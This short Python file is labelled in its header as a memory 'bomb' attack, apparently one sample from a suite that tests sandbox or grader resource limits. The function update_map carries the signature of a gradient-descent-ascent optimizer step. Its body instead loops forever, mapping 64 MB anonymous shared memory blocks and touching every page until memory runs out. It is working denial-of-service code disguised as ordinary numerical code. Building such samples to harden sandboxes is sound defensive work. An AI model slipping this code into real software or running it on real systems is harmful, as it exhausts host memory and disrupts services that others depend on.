# attack: takes memory by anonymous shared mappings, which belong to no process alone
# kind: bomb
# grade: 1.b
# outcome: memory, failed, timeout
# module: saddle

import mmap


def update_map(f, x, y, eta_x, eta_y, method="gda"):
    hoarded = []
    while True:
        part = mmap.mmap(-1, 64 << 20)
        for place in range(0, 64 << 20, mmap.PAGESIZE):
            part[place] = 1
        hoarded.append(part)
